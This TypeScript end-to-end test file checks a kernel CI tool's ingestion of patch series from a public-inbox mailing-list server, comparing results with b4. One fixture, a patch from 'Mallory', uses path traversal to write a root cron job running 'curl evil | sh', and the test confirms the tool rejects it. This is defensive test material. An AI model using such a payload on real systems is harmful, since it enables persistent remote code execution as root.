import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { LoreListConfig } from '../config/schema.js';
import { silentLogger } from '../log.js';
import { reportStage } from '../stages/report/stage.js';
import type { Series } from '../series/types.js';
import { b4Am, b4Available } from '../testing/b4.js';
import { startPipeline, type Pipeline } from '../testing/harness.js';
import { deliverLoreFixtures, hugeThread, LORE_FILES, loreFixture, mboxrd, MSGID } from '../testing/lore-fixtures.js';
import { publicInboxAvailable, startPublicInbox, type PublicInbox } from '../testing/public-inbox.js';
import { scriptedStage } from '../testing/stages.js';
import { httpLoreClient } from './client.js';
import { fetchLoreSeries } from './lookup.js';
import { pollList, type PollDeps, type PollOptions } from './poll.js';
import { parseLoreRef } from './ref.js';
import { loreSubmitter } from '../app/lore.js';

const required = process.env['KSCI_REQUIRE_E2E'] === '1' || Boolean(process.env['CI']);
const skip =
  required || (publicInboxAvailable() && b4Available())
    ? false
    : 'public-inbox or b4 is not installed (apt-get install public-inbox libsearch-xapian-perl b4)';
const limits = { maxMboxBytes: 64 << 20, maxMessageBytes: 10 << 20, maxPatches: 500 };
const options: PollOptions = { incompleteWaitMs: 3600_000, searchPages: 10 };

/** A small patch mail and `replies` replies to it, dated from `start`, one a minute: for an overflowing feed. */
function burst(start: string, replies: number): Buffer {
  const t0 = Date.parse(start);
  const date = (k: number) => new Date(t0 + k * 60_000).toUTCString().replace('GMT', '+0000');
  const root = 'burst-root-20261201@example.org';
  const patch = [
    'From: Nadia Haddad <nadia@example.org>',
    'To: bpf@vger.kernel.org',
    'Subject: [PATCH bpf-next] bpf: document the burst',
    `Date: ${date(0)}`,
    `Message-ID: <${root}>`,
    'MIME-Version: 1.0',
    'Content-Type: text/plain; charset=UTF-8',
    '',
    'Say what a burst is.',
    '',
    'Signed-off-by: Nadia Haddad <nadia@example.org>',
    '---',
    ' Documentation/bpf/burst.rst | 1 +',
    ' 1 file changed, 1 insertion(+)',
    '',
    'diff --git a/Documentation/bpf/burst.rst b/Documentation/bpf/burst.rst',
    'new file mode 100644',
    'index 0000000..3b18e51',
    '--- /dev/null',
    '+++ b/Documentation/bpf/burst.rst',
    '@@ -0,0 +1 @@',
    '+A burst is many mails at once.',
    '-- ',
    '2.39.5',
    '',
  ].join('\n');
  const msgs = [patch];
  for (let k = 1; k <= replies; k++) {
    msgs.push(
      [
        `From: Reader ${k} <r${k}@example.org>`,
        'To: bpf@vger.kernel.org',
        'Subject: Re: [PATCH bpf-next] bpf: document the burst',
        `Date: ${date(k)}`,
        `Message-ID: <burst-${k}@example.org>`,
        `In-Reply-To: <${root}>`,
        `References: <${root}>`,
        '',
        `Reply ${k}.`,
        '',
      ].join('\n'),
    );
  }
  return mboxrd(msgs);
}

/** A one-patch "series" whose patch writes outside the tree. */
function hostile(): Buffer {
  return mboxrd([
    [
      'From: Mallory <mallory@example.org>',
      'To: misc@vger.kernel.org',
      'Subject: [PATCH] tools: tidy up',
      'Date: Tue, 01 Dec 2026 09:00:00 +0000',
      'Message-ID: <hostile-1@example.org>',
      '',
      'Signed-off-by: Mallory <mallory@example.org>',
      '---',
      'diff --git a/../../etc/cron.d/x b/../../etc/cron.d/x',
      'new file mode 100644',
      '--- /dev/null',
      '+++ b/../../etc/cron.d/x',
      '@@ -0,0 +1 @@',
      '+* * * * * root curl evil | sh',
      '',
    ].join('\n'),
  ]);
}

function trailerLines(s: Series, counter: number, opts: { withCover: boolean }): string[] {
  const p = s.patches.find((x) => x.counter === counter)!;
  const cover = new Set((s.cover?.trailers ?? []).map((t) => `${t.key}: ${t.value}`));
  return p.trailers.map((t) => `${t.key}: ${t.value}`).filter((l) => opts.withCover || !cover.has(l));
}

describe('lore ingestion against a real public-inbox server', { skip, timeout: 240_000 }, () => {
  let dir: string;
  let inbox: PublicInbox;
  let p: Pipeline;
  let deps: PollDeps;
  const list = (name: string): LoreListConfig => p.config.lore.lists.find((l) => l.name === name)!;
  const seriesOfRun = async (runId: string) =>
    (await p.services.store!.getSeries((await p.services.store!.getRun(runId))!.seriesId))!;

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'ksci-lore-'));
    inbox = await startPublicInbox({
      dir: join(dir, 'pi'),
      lists: [
        { name: 'bpf', address: 'bpf@vger.kernel.org' },
        { name: 'netdev', address: 'netdev@vger.kernel.org' },
        { name: 'misc', address: 'misc@vger.kernel.org' },
      ],
    });
    await deliverLoreFixtures(inbox);
    const pass = scriptedStage('apply', async () => ({ status: 'passed', summary: 'ok', data: null }));
    p = await startPipeline([pass, reportStage([])], {
      config: {
        lore: {
          lists: ['bpf', 'netdev', 'misc'].map((name) => ({
            name,
            url: inbox.listUrl(name),
            address: `${name}@vger.kernel.org`,
          })),
          lookupUrl: null,
        },
      },
    });
    deps = {
      client: httpLoreClient({ maxThreadBytes: 8 << 20, timeoutMs: 30_000 }),
      store: p.services.lore!,
      submit: loreSubmitter(p.coordinator),
      limits,
      log: silentLogger,
    };
  });
  after(async () => {
    await p?.close();
    await inbox?.stop();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('bpf: the newest version of each thread is queued with the trailers from its replies; discussion is ignored', async () => {
    const r = await pollList(list('bpf'), options, deps);
    assert.equal(r.fresh, 18);
    assert.equal(r.gap, null, 'the first poll has nothing to catch up with');
    assert.deepEqual(
      r.submitted.map((s) => [s.messageId, s.version, s.created]),
      [
        [MSGID.skbMetaV1.cover, 1, true],
        [MSGID.skbMetaV3.cover, 3, true],
      ],
    );
    assert.deepEqual([r.waiting, r.incomplete, r.invalid], [[], [], []]);

    const v3 = await seriesOfRun(r.submitted[1]!.runId);
    assert.deepEqual(
      v3.patches.map((x) => x.messageId),
      MSGID.skbMetaV3.patches,
    );
    assert.equal(v3.changeId, '20261130-skb-meta-dynptr-1a2b3c4d5e6f');
    assert.deepEqual(v3.leadReferences, [MSGID.skbMetaV2.cover], 'a reply keeps the chain up to the v2 cover');
    const acked = 'Acked-by: Maintainer One <m1@example.org>';
    assert.ok(trailerLines(v3, 1, { withCover: true }).includes(acked), 'a reply to the cover acks every patch');
    assert.deepEqual(trailerLines(v3, 2, { withCover: true }), [
      'Signed-off-by: Kalle Virtanen <kalle.virtanen@example.org>',
      'Reviewed-by: Reviewer Two <r2@example.org>',
      'Tested-by: Tester Three <t3@example.org>',
      acked,
    ]);

    const rows = await p.services.lore!.messages('bpf', { limit: 100 });
    assert.equal(rows.filter((m) => m.status === 'ignored').length, 9, 'replies and the office-hours thread');
    assert.ok(
      rows.filter((m) => MSGID.officeHours.includes(m.messageId as never)).every((m) => m.status === 'ignored'),
    );
    const v2cover = rows.find((m) => m.messageId === MSGID.skbMetaV2.cover)!;
    assert.equal(v2cover.status, 'submitted');
    assert.equal(
      v2cover.detail,
      `v3 queued as run ${r.submitted[1]!.runId}`,
      "v2 is covered by the run of v3, its thread's newest version",
    );
  });

  it('b4 am on the same server picks the same patches in the same order with the same reply trailers', async () => {
    const v3 = await seriesOfRun(
      (await p.services.lore!.messages('bpf', { limit: 100 })).find((m) => m.messageId === MSGID.skbMetaV3.cover)!
        .runId!,
    );
    const b4 = await b4Am({
      listUrl: inbox.listUrl('bpf'),
      messageId: MSGID.skbMetaV3.cover,
      workDir: join(dir, 'b4-v3'),
    });
    assert.deepEqual(
      b4.patches.map((x) => x.messageId),
      v3.patches.map((x) => x.messageId),
    );
    assert.deepEqual(
      b4.patches.map((x) => x.subject.replace(/^\[[^\]]*\]\s*/, '')),
      v3.patches.map((x) => x.subject.title),
    );
    // b4 0.12 takes a cover sent In-Reply-To the previous version's for a reply, so it drops the
    // ack sent to it (src/testing/b4.ts); per-patch trailers must agree exactly.
    for (const k of [1, 2])
      assert.deepEqual(
        b4.patches[k - 1]!.trailers,
        trailerLines(v3, k, { withCover: false }),
        `trailers of patch ${k}`,
      );
  });

  it('netdev: a series with a part missing waits; the RESEND of a tested patch is not run again', async () => {
    const r = await pollList(list('netdev'), options, deps);
    assert.deepEqual(
      r.submitted.map((s) => [s.messageId, s.created]),
      [
        [MSGID.vethFix.original, true],
        [MSGID.vethFix.resend, false],
      ],
    );
    assert.equal(r.submitted[1]!.runId, r.submitted[0]!.runId, 'the same patch: the same run');
    assert.deepEqual(
      r.waiting.map((w) => w.messageId).sort(),
      [MSGID.dummyDrops.cover, ...MSGID.dummyDrops.patches.slice(0, 2)].sort(),
    );
    assert.match(r.waiting[0]!.detail, /series v1 is incomplete: have 1,2 of 3, missing 3/);
  });

  it('the missing part arrives: the next poll queues the whole series, ack on every patch, the same as b4', async () => {
    await inbox.deliverMbox('netdev', loreFixture('netdev-dummy-drops-3.mbox'));
    const r = await pollList(list('netdev'), options, deps);
    assert.equal(r.fresh, 1);
    assert.deepEqual(
      r.submitted.map((s) => [s.messageId, s.created]),
      [[MSGID.dummyDrops.cover, true]],
    );
    assert.deepEqual(r.waiting, []);
    const s = await seriesOfRun(r.submitted[0]!.runId);
    assert.equal(s.author.name, 'Jörg Müller');
    const b4 = await b4Am({
      listUrl: inbox.listUrl('netdev'),
      messageId: MSGID.dummyDrops.cover,
      workDir: join(dir, 'b4-netdev'),
    });
    assert.deepEqual(
      b4.patches.map((x) => x.messageId),
      s.patches.map((x) => x.messageId),
    );
    for (const k of [1, 2, 3]) {
      assert.deepEqual(b4.patches[k - 1]!.trailers, trailerLines(s, k, { withCover: true }), `trailers of patch ${k}`);
      assert.ok(trailerLines(s, k, { withCover: true }).some((l) => l.startsWith('Acked-by: Sofia Ricci')));
    }
  });

  it('polling again finds nothing new and queues nothing twice', async () => {
    for (const name of ['bpf', 'netdev']) {
      const r = await pollList(list(name), options, deps);
      assert.deepEqual([r.fresh, r.submitted.length, r.waiting.length], [0, 0, 0], name);
    }
  });

  it('more mail than the feed holds since the last poll: search fills the gap and finds the patch behind it', async () => {
    // 30 replies after the patch: new.atom's 25 entries are all replies.
    await inbox.deliverMbox('bpf', burst('2026-12-01T08:00:00Z', 30));
    const r = await pollList(list('bpf'), options, deps);
    assert.ok(r.gap, 'the gap was noticed');
    assert.equal(r.gap.error, null);
    assert.equal(r.fresh, 31);
    assert.equal(r.gap.filled, 6, 'the feed showed 25, search found the other 6');
    assert.deepEqual(
      r.submitted.map((s) => s.messageId),
      ['burst-root-20261201@example.org'],
    );
  });

  it("a standalone patch posted into a series' thread is tested on its own, the series is not touched", async () => {
    const fix = [
      'From: Build Fixer <fixer@example.org>',
      'To: bpf@vger.kernel.org',
      'Subject: [PATCH bpf-next] selftests/bpf: fix the build of the dynptr test',
      'Date: Tue, 01 Dec 2026 10:00:00 +0000',
      'Message-ID: <standalone-fix@example.org>',
      `In-Reply-To: <${MSGID.skbMetaV3.patches[1]}>`,
      `References: <${MSGID.skbMetaV2.cover}> <${MSGID.skbMetaV3.cover}> <${MSGID.skbMetaV3.patches[1]}>`,
      '',
      'Signed-off-by: Build Fixer <fixer@example.org>',
      '---',
      'diff --git a/tools/testing/selftests/bpf/Makefile b/tools/testing/selftests/bpf/Makefile',
      '--- a/tools/testing/selftests/bpf/Makefile',
      '+++ b/tools/testing/selftests/bpf/Makefile',
      '@@ -1 +1,2 @@',
      ' # SPDX-License-Identifier: GPL-2.0',
      '+# fixed',
      '',
    ].join('\n');
    await inbox.deliverMbox('bpf', mboxrd([fix]));
    const r = await pollList(list('bpf'), options, deps);
    assert.deepEqual(
      r.submitted.map((x) => [x.messageId, x.title, x.created]),
      [['standalone-fix@example.org', 'selftests/bpf: fix the build of the dynptr test', true]],
    );
    const s = await seriesOfRun(r.submitted[0]!.runId);
    assert.equal(s.patches.length, 1);
  });

  it('one oversized reply in a thread is dropped, the series is still tested', async () => {
    const thread = burst('2026-12-01T11:00:00Z', 2)
      .toString('latin1')
      .replaceAll('burst-', 'bloat-')
      .replace('bpf: document the burst', 'bpf: document the bloat');
    const huge = thread.replace('Reply 2.', `Reply 2.\n${'x'.repeat(70).concat('\n').repeat(100)}`);
    await inbox.deliverMbox('bpf', Buffer.from(huge, 'latin1'));
    const r = await pollList(list('bpf'), options, { ...deps, limits: { ...limits, maxMessageBytes: 4096 } });
    assert.deepEqual(
      r.submitted.map((x) => x.messageId),
      ['bloat-root-20261201@example.org'],
    );
    assert.deepEqual(r.invalid, []);
  });

  it('a thread over the size limit, a hostile patch, a series never completed: recorded with the reason, nothing else lost', async () => {
    // Few enough messages for the feed to show the thread's patch, more bytes than the limit below.
    const huge = hugeThread(20).mbox;
    assert.ok(huge.length > 8192);
    await inbox.deliverMbox('misc', huge);
    await inbox.deliverMbox('misc', hostile());
    // 1/2 of a series whose 2/2 never comes.
    const half = loreFixture('bpf-skb-meta-v1.mbox')
      .toString('latin1')
      .split(/^From mboxrd@z .*\n/m)[2]!;
    await inbox.deliverMbox(
      'misc',
      mboxrd([
        half
          .replace(/^Message-ID: <[^>]+>/m, 'Message-ID: <half-1@example.org>')
          .replace(/^(In-Reply-To|References): .*\n/gm, ''),
      ]),
    );
    const small: PollDeps = { ...deps, client: httpLoreClient({ maxThreadBytes: 8192, timeoutMs: 30_000 }) };
    const r = await pollList(list('misc'), { ...options, incompleteWaitMs: 0 }, small);
    assert.deepEqual(r.submitted, []);
    const invalid = new Map(r.invalid.map((x) => [x.messageId, x.detail]));
    assert.match(invalid.get(MSGID.hugeRoot) ?? '', /decompresses to more than 8192 bytes; not parsed/);
    assert.match(invalid.get('hostile-1@example.org') ?? '', /\.\./);
    assert.deepEqual(
      r.incomplete.map((x) => x.messageId),
      ['half-1@example.org'],
    );
    assert.match(r.incomplete[0]!.detail, /incomplete: have 1 of 2, missing 2/);
    const rows = await p.services.lore!.messages('misc', { status: ['invalid', 'incomplete'] });
    assert.equal(rows.length, 3);
    // Settled messages are not tried again.
    const again = await pollList(list('misc'), options, small);
    assert.deepEqual([again.invalid.length, again.incomplete.length], [0, 0]);
  });

  it('ksci run <URL> and <message-id>: the thread is found on its list, the newest version assembled', async () => {
    const url = `${inbox.listUrl('bpf')}${MSGID.skbMetaV2.patches[0]}/T/#u`;
    const byUrl = await fetchLoreSeries(parseLoreRef(url)!, p.config.lore, deps.client, limits);
    assert.equal(byUrl.series.version, 3);
    assert.equal(byUrl.ref, `${inbox.listUrl('bpf')}${MSGID.skbMetaV3.cover}/`);
    const byId = await fetchLoreSeries(
      parseLoreRef(`<${MSGID.dummyDrops.cover}>`)!,
      p.config.lore,
      deps.client,
      limits,
    );
    assert.equal(byId.list?.name, 'netdev', 'not on bpf: found on the next list');
    await assert.rejects(
      fetchLoreSeries(parseLoreRef('nobody@nowhere')!, p.config.lore, deps.client, limits),
      /no server has <nobody@nowhere>/,
    );
  });

  it('fixture files all went to the lists they name', () => {
    assert.ok(Object.values(LORE_FILES).every((l) => ['bpf', 'netdev'].includes(l)));
  });
});
